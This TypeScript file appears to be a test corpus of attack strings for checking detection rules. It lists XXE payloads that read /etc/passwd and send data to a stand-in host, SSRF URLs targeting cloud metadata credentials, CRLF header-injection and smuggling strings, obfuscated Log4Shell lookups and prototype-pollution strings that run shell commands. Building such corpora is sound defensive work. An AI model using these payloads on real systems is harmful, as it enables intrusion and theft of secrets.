import { values } from '../benign/values.ts';

/** Attacks by documents, addresses, line ends, loggers and objects that no list of the corpora has: written by us before a rule was looked at. */
export const documents: Readonly<Record<string, readonly string[]>> = {
  xxe: values`
<!DOCTYPE r [<!ENTITY % p SYSTEM "http://203.0.113.9/p.dtd">%p;]><r/>
<!DOCTYPE r [<!ENTITY % a SYSTEM 'file:///etc/hostname'><!ENTITY % b "<!ENTITY &#x25; c SYSTEM 'http://203.0.113.9/?%a;'>">%b;%c;]><r/>
<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///c:/windows/win.ini">]><r>&e;</r>
<?xml version='1.0'?><!DOCTYPE r PUBLIC '-//A//B//EN' 'http://203.0.113.9/x.dtd'><r/>
<!DOCTYPE r SYSTEM "http://203.0.113.9/x.dtd"><r>1</r>
<!DOCTYPE r SYSTEM 'file:///dev/random'><r/>
<!DOCTYPE⏎r⏎[⏎<!ENTITY⏎e⏎SYSTEM⏎"/etc/passwd"⏎>⏎]><r>&e;</r>
<!DOCTYPE r [<!ENTITY e PUBLIC "x" "php://filter/read=convert.base64-encode/resource=index.php">]><r>&e;</r>
<!DOCTYPE r [<!ENTITY e SYSTEM "expect://id">]><r>&e;</r>
<!DOCTYPE r [<!ENTITY e SYSTEM "jar:http://203.0.113.9/a.zip!/b">]><r>&e;</r>
<!DOCTYPE r [<!ENTITY e SYSTEM "netdoc:/etc/passwd">]><r>&e;</r>
<!DOCTYPE r [<!ENTITY e SYSTEM "gopher://203.0.113.9:25/">]><r>&e;</r>
<!DOCTYPE r [<!ENTITY e SYSTEM "ftp://203.0.113.9/x">]><r>&e;</r>
<!DOCTYPE r [<!ENTITY e SYSTEM "\\203.0.113.9\s\x">]><r>&e;</r>
<!DOCTYPE r [<!ENTITY e SYSTEM "http://169.254.169.254/latest/meta-data/">]><r>&e;</r>
<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]><l>&d;</l>
<!DOCTYPE q [<!ENTITY x "xxxxxxxxxxxxxxxxxxxxxxxxx"><!ELEMENT q ANY>]><q>&x;&x;&x;&x;&x;&x;&x;&x;&x;&x;&x;&x;&x;</q>
<!DOCTYPE r [<!ELEMENT r ANY><!ATTLIST r a ENTITY #IMPLIED><!ENTITY e SYSTEM "file:///proc/self/environ" NDATA x>]><r a="e"/>
<!DOCTYPE r [<!NOTATION n SYSTEM "file:///etc/passwd">]><r/>
<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></x>
<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http://203.0.113.9/x"/>
<r xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="/etc/passwd" parse="text"><x:fallback/></x:include></r>
<?xml-stylesheet type="text/xsl" href="http://203.0.113.9/x.xsl"?><r/>
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document('/etc/passwd')"/></xsl:template></xsl:stylesheet>
<xsl:value-of select="unparsed-text('file:///etc/passwd')" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>
<xsl:include href="http://203.0.113.9/i.xsl" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>
<xsl:value-of select="system-property('xsl:vendor')" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>
<xsl:value-of select="php:function('system','id')" xmlns:php="http://php.net/xsl"/>
<msxsl:script language="C#" xmlns:msxsl="urn:schemas-microsoft-com:xslt">System.Diagnostics.Process.Start("cmd");</msxsl:script>
<r xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="http://203.0.113.9/x.xsd"/>
<r xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:a file:///etc/passwd"/>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><soap:Body>&e;</soap:Body></soap:Envelope>
<soap:Body><foo><![CDATA[<!DOCTYPE d [<!ENTITY % x SYSTEM "http://203.0.113.9/">%x;]>]]></foo></soap:Body>
<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>
<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="file:///etc/passwd"/></svg>
<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="expect://id"/></svg>
<!DOCTYPE rss [<!ENTITY e SYSTEM "file:///etc/passwd">]><rss version="2.0"><channel><title>&e;</title></channel></rss>
<!DOCTYPE plist [<!ENTITY e SYSTEM "file:///etc/passwd">]><plist><string>&e;</string></plist>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://203.0.113.9/"> %remote; %int; %trick;]>
%3C!DOCTYPE%20r%20%5B%3C!ENTITY%20e%20SYSTEM%20%22file:///etc/passwd%22%3E%5D%3E%3Cr%3E%26e;%3C/r%3E
&lt;!DOCTYPE r [&lt;!ENTITY e SYSTEM "file:///etc/passwd"&gt;]&gt;
<!DOCTYPE r [<!ENTITY % f SYSTEM "file:///etc/fstab"><!ENTITY % e "<!ENTITY &#37; x SYSTEM 'file:///no/%f;'>">%e;]>
<!DOCTYPE r [<!ENTITY % local SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd"><!ENTITY % ISOamso '<!ENTITY &#x25; f SYSTEM "file:///etc/passwd">'>%local;]>
<!DocType r [<!entity e system "file:///etc/passwd">]><r>&e;</r>
<![CDATA[<!ENTITY e SYSTEM "file:///etc/passwd">]]>
<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:include schemaLocation="http://203.0.113.9/i.xsd"/></xs:schema>
<wsdl:import location="http://203.0.113.9/a.wsdl" namespace="x"/>
<!DOCTYPE a[<!ENTITY % b SYSTEM "http://203.0.113.9/c">%b;]>
<?xml version="1.0" standalone="no"?><!DOCTYPE a SYSTEM "ftp://203.0.113.9/a.dtd"><a/>
<!DOCTYPE a [<!ENTITY b SYSTEM "file:///C:/secret.txt">]><a>&b;</a>
<a xmlns:b="http://www.w3.org/2001/XInclude"><b:include parse='text' href='file:///etc/hosts'/></a>
<!DOCTYPE html [<!ENTITY x SYSTEM "gopher://203.0.113.9/">]>
<!DOCTYPE a PUBLIC "b" "https://203.0.113.9/evil.dtd">
<!DOCTYPE a [<!ENTITY b "c"><!ENTITY d "&b;&b;">]><a>&d;</a>
<!ENTITY % x "<!ENTITY y SYSTEM 'http://203.0.113.9'>">
<svg><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]></svg>
<!DOCTYPE a [<!ENTITY b SYSTEM 'data://text/plain;base64,aWQ='>]>
`,
  ssrf: values`
http://169.254.169.254/latest/meta-data/iam/security-credentials/
http://169.254.169.254/latest/api/token
http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token
http://169.254.169.254/metadata/instance?api-version=2021-02-01
http://100.100.100.200/latest/meta-data/
http://169.254.170.2/v2/credentials
http://[fd00:ec2::254]/latest/meta-data/
http://2852039166/latest/meta-data
http://0xa9fea9fe/
http://0251.0376.0251.0376/
http://169.254.43518/
http://[::ffff:a9fe:a9fe]/
http://127.0.0.1:2375/containers/json
http://127.1:6379/
http://2130706433/
http://0x7f000001/
http://0177.0.0.1/
http://[::]:22/
http://[::1]:9200/_cat
http://0:8000/
http://localhost.localdomain:9000/
http://127.0.0.1.nip.io/
http://spoofed.burpcollaborator.net/
gopher://127.0.0.1:6379/_FLUSHALL
dict://127.0.0.1:11211/stat
ftp://127.0.0.1:21/
tftp://203.0.113.9/x
ldap://127.0.0.1:389/%0astats
sftp://203.0.113.9:22/
file:///var/run/secrets/token
http://user@127.0.0.1@example.org/
http://example.org@169.254.169.254/
http://192.0.0.192/latest/
http://instance-data/latest/meta-data/
http://rancher-metadata/latest/
https://kubernetes.default.svc/api/v1/secrets
http://①②⑦.⓪.⓪.①/
netdoc:///etc/passwd
jar:http://127.0.0.1!/
unix:/var/run/docker.sock
`,
  'header-injection': values`
x%0d%0aSet-Cookie:%20a=b
en⏎Location: http://203.0.113.9/
a%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0a
%E5%98%8A%E5%98%8DSet-Cookie:x=1
foo%0aX-Injected:%20yes
%0d%0a%0d%0a<script>alert(1)</script>
a⏎Transfer-Encoding: chunked⏎⏎0⏎⏎GET /admin HTTP/1.1
/x%20HTTP/1.1%0d%0aHost:%20internal%0d%0a%0d%0aGET%20/admin
bob@example.org%0aBcc:%20eve@example.org
bob@example.org⏎Cc: all@example.org
x⏎Content-Type: text/html⏎⏎<h1>hi
%0dX-Forwarded-For: 127.0.0.1
1%0d%0a%0d%0aDELETE /v1/twins HTTP/1.1
a%0d%0aaccess-control-allow-origin: *
x%0aReferer: http://203.0.113.9
x%0d%0aX-XSS-Protection:0%0d%0a
q%0d%0aLink: <http://203.0.113.9/x.css>; rel=stylesheet
q⏎Refresh: 0;url=http://203.0.113.9
%u000d%u000aSet-Cookie: a=b
\r\nSet-Cookie: role=admin
`,
  log4shell: values`
\${jndi:ldap://203.0.113.9/a}
\${\${lower:j}\${upper:n}\${lower:d}\${upper:i}:rmi://203.0.113.9/a}
\${\${::-j}ndi:dns://203.0.113.9}
\${\${env:NaN:-j}ndi\${env:NaN:-:}ldap://203.0.113.9}
\${j\${k8s:k5:-ND}i:ldap://203.0.113.9/x}
\${jnd\${sys:SYS_NAME:-i}:ldap:/203.0.113.9/x}
\${j\${\${:-l}\${:-o}\${:-w}\${:-e}\${:-r}:n}di:iiop://203.0.113.9}
\${\${date:'j'}\${date:'n'}\${date:'d'}\${date:'i'}:ldap://203.0.113.9}
%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D
\${jndi:\${lower:l}\${lower:d}a\${lower:p}://203.0.113.9}
$%7Bjndi:nis://203.0.113.9%7D
\${\${what:ever:-j}\${some:thing:-n}\${other:thing:-d}\${and:last:-i}:ldap://203.0.113.9}
\${jndi:ldap://127.0.0.1#203.0.113.9:1389/a}
\${jndi:corba://203.0.113.9}
\u0024{jndi:ldap://203.0.113.9/a}
\${\${base64:am5kaTpsZGFwOi8vMjAzLjAuMTEzLjkvYQ==}}
\${ctx:loginId}
\${env:AWS_SECRET_ACCESS_KEY}
\${sys:java.version}
\${script:javascript:java.lang.Runtime.getRuntime().exec('id')}
\${url:UTF-8:http://203.0.113.9/}
\${dns:address|203.0.113.9}
`,
  'prototype-pollution': values`
__proto__[admin]=true
__proto__.isAdmin
constructor[prototype][x]=1
constructor.prototype.polluted
{"__proto__":{"admin":true}}
{"constructor":{"prototype":{"admin":true}}}
a[__proto__][b]=1
["__proto__"]["x"]
{"a":{"__proto__":{"shell":"/bin/sh","NODE_OPTIONS":"--require /proc/self/environ"}}}
__pro__proto__to__[x]=1
?__proto__[src]=data:,alert(1)//
#__proto__[onload]=alert(1)
{"\u005f\u005fproto\u005f\u005f":{"a":1}}
Object.prototype.x=1
{"__proto__.outputFunctionName":"x;process.mainModule.require('child_process').exec('id');s"}
settings[view options][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s
{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}
__class__.__init__.__globals__[app].secret_key
class.module.classLoader.URLs[0]=0
class.classLoader.resources.dirContext.docBase=/
`,
};
